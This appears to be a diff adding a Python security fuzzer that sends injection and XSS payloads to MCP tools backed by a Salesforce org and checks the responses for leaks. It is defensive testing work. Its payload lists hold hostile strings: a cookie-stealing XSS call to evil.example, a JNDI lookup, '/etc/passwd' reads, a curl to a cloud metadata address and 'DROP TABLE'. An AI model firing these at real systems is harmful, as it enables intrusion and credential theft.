@@ -0,0 +1,551 @@
+"""
+MCP Tool Input Fuzzer
+Sends injection, XSS, type-confusion and boundary payloads at every MCP tool
+
+The corpus is built from the tools' input schemas (tools/list): every
+string argument gets every string payload (raw and embedded in a realistic
+value), every argument gets values of the wrong JSON type and integers get
+out-of-range values. Cases are sent as tools/call requests by a fixed
+number of closed-loop workers over keep-alive connections
+(load_generator's HTTP client), so a corpus of several hundred payloads
+finishes in seconds.
+
+Responses are grouped into behaviours by hashing the status and the
+normalised body (request ids, numbers, hex ids and echoes of the payload
+removed), so hundreds of payloads collapse into a handful of distinct
+outcomes. Every response is also checked for:
+- 5xx status (input reached code that did not handle it)
+- system details in the body: stack traces, exception names, file paths,
+  SQL engine errors, internal hosts, environment variable names
+- schema-invalid arguments answered with a tool result
+- payloads reflected unescaped in an HTML response
+
+By default only schema-invalid arguments are sent (type confusion,
+out-of-range integers, malformed envelopes, missing arguments): a worker
+must reject them before they reach Salesforce. Schema-valid payloads are
+opt-in with include_valid_payloads, since the tools execute them:
+run_soql runs any SOQL it receives against the live org and spends its
+API quota. Write tools (create_record, update_record) additionally need
+include_write_tools, as a valid payload would create or change real
+records. SOQL payloads are never sent as a `query` argument, where they
+are not an injection but a query of their own.
+"""
+
+import asyncio
+import hashlib
+import json
+import re
+from dataclasses import dataclass, field
+from typing import Dict, Iterable, Iterator, List, Optional, Sequence
+
+try:
+    # When imported from tests or validator.py (tools/security on sys.path)
+    import tracing
+except ImportError:
+    # When imported normally as a package
+    from .. import tracing
+
+from .load_generator import _ConnectionPool, _Target, jsonrpc_body
+from .log_scanner import SensitiveDataScanner
+
+# String payloads by category
+STRING_PAYLOADS: Dict[str, List[str]] = {
+    "sql_injection": [
+        "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "'; DROP TABLE users;--",
+        "1' UNION SELECT NULL,NULL,NULL--", "admin'--", "' AND SLEEP(5)--",
+        "1; WAITFOR DELAY '0:0:5'--", "') OR ('a'='a", "%27%20OR%201%3D1",
+        "' OR 'x' LIKE 'x", "1 OR 1=1", "' HAVING 1=1--", "' GROUP BY 1--",
+        "1' ORDER BY 99--", "'||(SELECT version())||'",
+    ],
+    "soql_injection": [
+        "SELECT Id, Username FROM User", "' OR Name != '", "x' OR Email LIKE '%",
+        "Contact WHERE Id != null", "SELECT Id, (SELECT Id FROM Contacts) FROM Account",
+        "\\' OR \\'1\\'=\\'1", "SELECT Id FROM Contact LIMIT 50000",
+        "SELECT Id FROM Contact ALL ROWS", "SELECT FIELDS(ALL) FROM User LIMIT 200",
+        "' AND Id IN (SELECT Id FROM User) AND Name != '", "%' OR Name LIKE '%",
+    ],
+    "nosql_injection": [
+        '{"$gt": ""}', '{"$ne": null}', "'; return true; var x='", "[$ne]=1",
+        '{"$where": "sleep(5000)"}', "true, $where: '1 == 1'",
+    ],
+    "xss": [
+        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
+        "<svg onload=alert(1)>", "'-alert(1)-'", "<iframe src=javascript:alert(1)>",
+        "</script><script>alert(1)</script>", "<body onload=alert(1)>",
+        "%3Cscript%3Ealert(1)%3C/script%3E", "<a href=\"javascript&#58;alert(1)\">x</a>",
+        "<img src=\"x\" onerror=\"fetch('//evil.example/'+document.cookie)\">",
+        "\"onmouseover=\"alert(1)",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<ScRiPt>alert(1)</sCrIpT>", "<details open ontoggle=alert(1)>",
+    ],
+    "command_injection": [
+        "; ls -la", "| cat /etc/passwd", "`id`", "$(id)", "&& whoami", "\n/bin/sh -c id",
+        "; curl http://169.254.169.254/latest/meta-data/", "|| ping -c 1 127.0.0.1",
+        "$(sleep 5)", "; rm -rf /tmp/x",
+    ],
+    "path_traversal": [
+        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
+        "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/proc/self/environ", "file:///etc/passwd",
+        "....//....//etc/passwd", "..%252f..%252fetc%252fpasswd",
+    ],
+    "template_injection": [
+        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "${process.env}",
+        "{{this.constructor.constructor('return process')()}}", "%s%s%s%s%s",
+        "%n%n%n%n", "{0}{1}{2}", "${jndi:ldap://evil.example/a}",
+    ],
+    "prototype_pollution": [
+        "__proto__", "constructor", "prototype", '{"__proto__": {"admin": true}}',
+        "constructor.prototype.admin",
+    ],
+    "boundary": [
+        "", " ", "\x00", "\x00' OR 1=1--", "\r\n\r\nHTTP/1.1 200 OK", "\x1b[31mred",
+        "\u202egnp.exe", "\ufeffBOM", "\ud800", "😀" * 1000, "Ω≈ç√∫" * 200,
+        "null", "undefined", "NaN", "-1", "0", "9" * 400, "true", "[]", "{}",
+        "A" * 1024, "A" * 10_000, "A" * 100_000, "%00", "\t" * 1000,
+    ],
+}
+
+# Values of every JSON type; those that do not match an argument's schema
+# type are sent as type confusion
+TYPE_VALUES = [
+    None, True, False, 0, -1, 1.5, 1e308, 2 ** 53 + 1, "", "string", [], ["a", 1],
+    {}, {"$gt": ""}, {"nested": {"deeper": [1, {"deepest": None}]}},
+]
+
+# Integer arguments: values around (and beyond) typical bounds
+INTEGER_BOUNDARIES = [0, -1, 101, 1000, 2 ** 31, 2 ** 63, -2 ** 63, 1.5, 1e308, 1, 100]
+
+# Realistic values a string payload is embedded in, by argument name
+CONTEXTS: Dict[str, List[str]] = {
+    "query": ["{}", "SELECT Id, Name FROM Contact WHERE Name = '{}'"],
+    "criteria": ["{}", "major donors over {}"],
+}
+
+# Benign values for the arguments not being fuzzed
+DEFAULT_ARGUMENTS = {
+    "query": "SELECT Id FROM Contact LIMIT 1",
+    "criteria": "recent donors",
+    "sobject": "Contact",
+    "record_id": "003000000000000AAA",
+    "fields": {"LastName": "Fuzz"},
+    "limit": 1,
+}
+
+WRITE_TOOLS = ("create_record", "update_record")
+
+# Arguments executed as SOQL as they are; soql_injection payloads are skipped there
+QUERY_ARGUMENTS = ("query",)
+
+# System details that must not appear in error responses
+LEAK_PATTERNS = {
+    "stack_trace": (r"Traceback \(most recent call last\)"
+                    r"|\bat [\w.$<>]+ \((?:/|[A-Za-z]:\\|file:|node:|webpack:)[^)]*:\d+:\d+\)"
+                    r"|\bat (?:/|file:)\S+:\d+:\d+"),
+    "exception": (r"\b(?:TypeError|ReferenceError|SyntaxError|RangeError|KeyError|ValueError"
+                  r"|AttributeError|NullPointerException): "
+                  r"|Cannot read propert(?:y|ies) of (?:undefined|null)|is not a function"),
+    "file_path": (r"/(?:home|usr|var|opt|srv|app|worker|etc)/[\w.-]+/[\w./-]+"
+                  r"|[A-Za-z]:\\(?:Users|Windows|inetpub)\\|node_modules/"),
+    "sql_error": (r"SQLSTATE|syntax error at or near|error in your SQL syntax|ORA-\d{5}"
+                  r"|sqlite3?\.\w+Error|unterminated quoted string"),
+    "internal_host": (r"\b(?:10|127)\.\d{1,3}\.\d{1,3}\.\d{1,3}\b|\b192\.168\.\d{1,3}\.\d{1,3}\b"
+                      r"|\blocalhost:\d+|169\.254\.169\.254"),
+    "environment": (r"\bprocess\.env\b|\bSF_(?:CLIENT_SECRET|REFRESH_TOKEN|PASSWORD|USERNAME)\b"
+                    r"|\bAWS_SECRET_ACCESS_KEY\b"),
+    "server_version": r"\b(?:Werkzeug|gunicorn|Express|nginx|Apache|Python)/\d|\bNode\.js v\d",
+}
+
+# Examples kept per finding
+MAX_EXAMPLES = 3
+
+
+@dataclass
+class FuzzCase:
+    """One tools/call request"""
+    tool: str
+    argument: Optional[str]  # Argument being fuzzed (None: the envelope)
+    category: str
+    value: object  # Fuzzed value as sent
+    arguments: object  # Full `arguments` sent
+    invalid: bool = False  # Violates the tool's input schema
+
+    def body(self, request_id: int) -> bytes:
+        return jsonrpc_body("tools/call", request_id,
+                            {"name": self.tool, "arguments": self.arguments})
+
+    @property
+    def label(self) -> str:
+        target = f"{self.tool}.{self.argument}" if self.argument else self.tool
+        return f"{target} {self.category} {_short(self.value)}"
+
+
+@dataclass
+class Behaviour:
+    """Responses that look the same once the payload is removed"""
+    key: str
+    status: int
+    sample: str  # Normalised body (truncated; local debugging only, never in claim details)
+    code: str = ""  # JSON-RPC error code, "tool_error" or "result"
+    count: int = 0
+    categories: Dict[str, int] = field(default_factory=dict)
+    example: str = ""  # Label of the first case
+
+
+@dataclass
+class Finding:
+    """Count and first few cases of one kind of problem"""
+    count: int = 0
+    examples: List[str] = field(default_factory=list)
+
+    def add(self, example: str):
+        self.count += 1
+        if len(self.examples) < MAX_EXAMPLES:
+            self.examples.append(example)
+
+
+@dataclass
+class FuzzReport:
+    """Grouped outcome of a fuzzing run"""
+    url: str
+    tools: List[str] = field(default_factory=list)
+    planned: int = 0
+    sent: int = 0
+    behaviours: Dict[str, Behaviour] = field(default_factory=dict)
+    leaks: Dict[str, Finding] = field(default_factory=dict)  # pattern -> finding
+    server_errors: Finding = field(default_factory=Finding)
+    accepted_invalid: Finding = field(default_factory=Finding)
+    reflected: Finding = field(default_factory=Finding)
+    throttled: int = 0
+    errors: int = 0
+    first_error: Optional[str] = None
+    error: Optional[str] = None  # Fuzzing could not start (e.g. tools/list failed)
+    duration: float = 0.0
+
+    @property
+    def answered(self) -> int:
+        return sum(b.count for b in self.behaviours.values())
+
+    def summary(self) -> str:
+        """One-line human readable summary"""
+        line = (f"{self.answered} payloads against {len(self.tools)} tools in "
+                f"{self.duration:.1f}s: {len(self.behaviours)} distinct behaviours")
+        if self.sent < self.planned:
+            line += f" ({self.planned - self.sent} of {self.planned} not sent)"
+        if self.throttled:
+            line += f", {self.throttled} throttled"
+        if self.errors:
+            line += f", {self.errors} errors ({self.first_error})"
+        return line
+
+    def top_behaviours(self, limit: int = 5) -> List[Behaviour]:
+        return sorted(self.behaviours.values(), key=lambda b: -b.count)[:limit]
+
+
+def build_corpus(tools: Sequence[Dict], include_write_tools: bool = False,
+                 categories: Optional[Iterable[str]] = None,
+                 max_cases: Optional[int] = None,
+                 include_valid_payloads: bool = False) -> List[FuzzCase]:
+    """
+    Fuzz cases for MCP tools (entries of a tools/list result)
+
+    Args:
+        tools: Tools with `name` and `inputSchema`
+        include_write_tools: Send schema-valid payloads to WRITE_TOOLS too
+            (only with include_valid_payloads)
+        categories: STRING_PAYLOADS categories to use (default: all); type
+            confusion, integer and envelope cases are always included
+        max_cases: Keep at most this many cases, sampled across the corpus
+        include_valid_payloads: Send schema-valid payloads (string payloads,
+            in-range integers), which the tools execute against the live org
+    """
+    wanted = set(categories) if categories is not None else set(STRING_PAYLOADS)
+    unknown = wanted - set(STRING_PAYLOADS)
+    if unknown:
+        raise ValueError(f"Unknown payload categories: {', '.join(sorted(unknown))}")
+
+    cases: List[FuzzCase] = []
+    for tool in tools:
+        name = tool["name"]
+        schema = tool.get("inputSchema") or {}
+        properties = schema.get("properties") or {}
+        baseline = {arg: DEFAULT_ARGUMENTS.get(arg, "x") for arg in schema.get("required", ())}
+        valid_payloads = include_valid_payloads and (include_write_tools
+                                                     or name not in WRITE_TOOLS)
+        cases.extend(_envelope_cases(name, baseline, schema))
+
+        for argument, rules in properties.items():
+            kind = rules.get("type")
+
+            def case(category, value, invalid, sent=None):
+                return FuzzCase(name, argument, category, value,
+                                {**baseline, argument: value if sent is None else sent}, invalid)
+
+            for value in TYPE_VALUES:
+                if not _matches_type(value, kind):
+                    cases.append(case("type_confusion", value, True))
+            if kind == "integer":
+                for value in INTEGER_BOUNDARIES:
+                    invalid = not _within(value, rules)
+                    if invalid or valid_payloads:
+                        cases.append(case("integer_boundary", value, invalid))
+            elif kind == "string" and valid_payloads:
+                for category in sorted(wanted):
+                    if category == "soql_injection" and argument in QUERY_ARGUMENTS:
+                        continue
+                    for payload in STRING_PAYLOADS[category]:
+                        for context in CONTEXTS.get(argument, ["{}"]):
+                            cases.append(case(category, payload, False, context.format(payload)))
+            elif kind == "object" and valid_payloads:
+                # Payloads as field names and values of e.g. `fields`
+                for category in sorted(wanted):
+                    for payload in STRING_PAYLOADS[category][:4]:
+                        cases.append(case(category, payload, False, {payload: payload}))
+
+    if max_cases is not None and len(cases) > max_cases:
+        step = len(cases) / max_cases
+        cases = [cases[int(i * step)] for i in range(max_cases)]
+    return cases
+
+
+def run_fuzz(url: str, api_key: str, tools: Optional[List[Dict]] = None,
+             concurrency: int = 16, timeout: float = 10.0, path: str = "/mcp",
+             include_write_tools: bool = False, categories: Optional[Iterable[str]] = None,
+             max_cases: Optional[int] = None,
+             max_duration: Optional[float] = None,
+             include_valid_payloads: bool = False) -> FuzzReport:
+    """
+    Fuzz every tool of an MCP worker and group the responses
+
+    Args:
+        url: Worker base URL
+        api_key: Bearer token
+        tools: Tools to fuzz (default: the worker's tools/list)
+        concurrency: Requests in flight at once (one keep-alive connection each)
+        timeout: Per-request timeout in seconds
+        path: MCP endpoint
+        include_write_tools / categories / max_cases / include_valid_payloads:
+            See build_corpus()
+        max_duration: Stop sending new cases after this many seconds
+    """
+    with tracing.span("fuzz", "http", url=url, concurrency=concurrency):
+        return asyncio.run(fuzz(url, api_key, tools, concurrency, timeout, path,
+                                include_write_tools, categories, max_cases, max_duration,
+                                include_valid_payloads))
+
+
+async def fuzz(url: str, api_key: str, tools: Optional[List[Dict]] = None,
+               concurrency: int = 16, timeout: float = 10.0, path: str = "/mcp",
+               include_write_tools: bool = False, categories: Optional[Iterable[str]] = None,
+               max_cases: Optional[int] = None,
+               max_duration: Optional[float] = None,
+               include_valid_payloads: bool = False) -> FuzzReport:
+    """Async version of run_fuzz()"""
+    if concurrency < 1:
+        raise ValueError("concurrency must be positive")
+
+    endpoint = url.rstrip("/") + path
+    target = _Target(endpoint)
+    pool = _ConnectionPool(target, concurrency, timeout)
+    headers = {"Authorization": f"Bearer {api_key}", "Content-Type": "application/json",
+               "Accept": "application/json"}
+    report = FuzzReport(url=endpoint)
+    scanner = SensitiveDataScanner(LEAK_PATTERNS)
+
+    loop = asyncio.get_running_loop()
+    start = loop.time()
+    try:
+        if tools is None:
+            tools = await _list_tools(pool, target, headers, report)
+            if tools is None:
+                return report
+        report.tools = [tool["name"] for tool in tools]
+        corpus = build_corpus(tools, include_write_tools, categories, max_cases,
+                              include_valid_payloads)
+        report.planned = len(corpus)
+        pending: Iterator = iter(enumerate(corpus, start=2))
+
+        async def worker():
+            for request_id, case in pending:
+                if max_duration is not None and loop.time() - start > max_duration:
+                    return
+                report.sent += 1
+                request = target.request("POST", headers, case.body(request_id))
+                try:
+                    status, response_headers, body = await pool.fetch(request)
+                except Exception as e:
+                    report.errors += 1
+                    if report.first_error is None:
+                        report.first_error = _describe(e)
+                    if report.errors >= concurrency and not report.behaviours:
+                        return  # Unreachable: a few timeouts, not the whole corpus
+                    continue
+                _record(report, scanner, case, status, response_headers, body)
+
+        await asyncio.gather(*(worker() for _ in range(concurrency)))
+    finally:
+        await pool.close()
+        report.duration = loop.time() - start
+    return report
+
+
+# ============================================================================
+# Response analysis
+# ============================================================================
+
+_VOLATILE = [
+    (re.compile(r"req_\d+_\w+"), "<request>"),
+    (re.compile(r"\b[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\b", re.I),
+     "<uuid>"),
+    (re.compile(r"\b(?=\w*\d)[0-9a-zA-Z]{15,18}\b"), "<id>"),  # Salesforce record IDs
+    (re.compile(r"\d+(?:\.\d+)?"), "#"),
+    (re.compile(r"\s+"), " "),
+]
+
+
+def strip_payload(text: str, case: FuzzCase) -> str:
+    """Replace echoes of the fuzzed value (raw or JSON-escaped) with <payload>"""
+    values = [case.value]
+    if isinstance(case.arguments, dict) and case.argument:
+        values.append(case.arguments.get(case.argument))
+    for value in values:
+        raw = value if isinstance(value, str) else json.dumps(value)
+        if raw is None or len(raw) < 3:
+            continue  # Short values ("0", "") also occur in unrelated text
+        for form in {raw, json.dumps(raw, ensure_ascii=False)[1:-1], json.dumps(raw)[1:-1]}:
+            text = text.replace(form, "<payload>")
+    return text
+
+
+def fingerprint(status: int, text: str) -> tuple:
+    """
+    (key, normalised body) for a response whose payload echoes are stripped
+
+    The request id is dropped and numbers, hex ids and whitespace are
+    normalised, so responses that differ only in those share a key.
+    """
+    try:
+        message = json.loads(text)
+    except ValueError:
+        normalised = text
+    else:
+        if isinstance(message, dict):
+            message.pop("id", None)
+        normalised = json.dumps(message, sort_keys=True, ensure_ascii=False)
+    for pattern, replacement in _VOLATILE:
+        normalised = pattern.sub(replacement, normalised)
+    normalised = normalised.strip()[:512]
+    key = hashlib.sha1(f"{status}\n{normalised}".encode("utf-8", "replace")).hexdigest()[:12]
+    return key, normalised
+
+
+def _record(report: FuzzReport, scanner: SensitiveDataScanner, case: FuzzCase, status: int,
+            headers: Dict[str, str], body: bytes):
+    if status == 429:
+        report.throttled += 1
+        return
+
+    raw = body.decode("utf-8", "replace")
+    text = strip_payload(raw, case)
+    key, normalised = fingerprint(status, text)
+    behaviour = report.behaviours.get(key)
+    if behaviour is None:
+        behaviour = report.behaviours[key] = Behaviour(key, status, normalised[:160],
+                                                       code=_outcome(raw),
+                                                       example=case.label)
+    behaviour.count += 1
+    behaviour.categories[case.category] = behaviour.categories.get(case.category, 0) + 1
+
+    if status >= 500:
+        report.server_errors.add(case.label)
+    for pattern in scanner.matches(text):
+        report.leaks.setdefault(pattern, Finding()).add(case.label)
+    if case.invalid and status < 300 and _is_tool_result(raw):
+        report.accepted_invalid.add(case.label)
+    if isinstance(case.value, str) and "<" in case.value and case.value in raw \
+            and "html" in headers.get("content-type", "").lower():
+        report.reflected.add(case.label)
+
+
+async def _list_tools(pool: _ConnectionPool, target: _Target, headers: Dict[str, str],
+                      report: FuzzReport) -> Optional[List[Dict]]:
+    request = target.request("POST", headers, jsonrpc_body("tools/list"))
+    try:
+        status, _, body = await pool.fetch(request)
+    except Exception as e:
+        report.error = f"worker unreachable ({_describe(e)})"
+        return None
+    try:
+        tools = json.loads(body)["result"]["tools"]
+    except (ValueError, KeyError, TypeError):
+        tools = None
+    if status != 200 or not tools:
+        report.error = f"tools/list returned {status} without tools"
+        return None
+    return tools
+
+
+def _outcome(text: str) -> str:
+    """JSON-RPC error code, "tool_error" (result with isError) or "result"; "-" otherwise"""
+    try:
+        message = json.loads(text)
+    except ValueError:
+        return "-"
+    if not isinstance(message, dict):
+        return "-"
+    error = message.get("error")
+    if isinstance(error, dict) and isinstance(error.get("code"), int):
+        return str(error["code"])
+    result = message.get("result")
+    if isinstance(result, dict):
+        return "tool_error" if result.get("isError") else "result"
+    return "-"
+
+
+def _is_tool_result(text: str) -> bool:
+    try:
+        message = json.loads(text)
+    except ValueError:
+        return False
+    result = message.get("result") if isinstance(message, dict) else None
+    return isinstance(result, dict) and not result.get("isError")
+
+
+def _envelope_cases(name: str, baseline: Dict, schema: Dict) -> List[FuzzCase]:
+    """Malformed `arguments` objects and missing required arguments"""
+    cases = [FuzzCase(name, None, "envelope", value, value, True)
+             for value in ([], "arguments", 1, True, [baseline])]
+    for argument in schema.get("required", ()):
+        arguments = {k: v for k, v in baseline.items() if k != argument}
+        cases.append(FuzzCase(name, argument, "missing_argument", None, arguments, True))
+    return cases
+
+
+def _matches_type(value, kind: Optional[str]) -> bool:
+    if kind == "string":
+        return isinstance(value, str)
+    if kind == "integer":
+        return isinstance(value, int) and not isinstance(value, bool)
+    if kind == "number":
+        return isinstance(value, (int, float)) and not isinstance(value, bool)
+    if kind == "boolean":
+        return isinstance(value, bool)
+    if kind == "object":
+        return isinstance(value, dict)
+    if kind == "array":
+        return isinstance(value, list)
+    return True  # Untyped: nothing is a type confusion
+
+
+def _within(value, rules: Dict) -> bool:
+    if isinstance(value, float) and not value.is_integer():
+        return False
+    return rules.get("minimum", float("-inf")) <= value <= rules.get("maximum", float("inf"))
+
+
+def _describe(error: Exception) -> str:
+    return f"{type(error).__name__}: {error}" if str(error) else type(error).__name__
+
+
+def _short(value, limit: int = 40) -> str:
+    text = repr(value)
+    return text if len(text) <= limit else text[:limit - 3] + "..."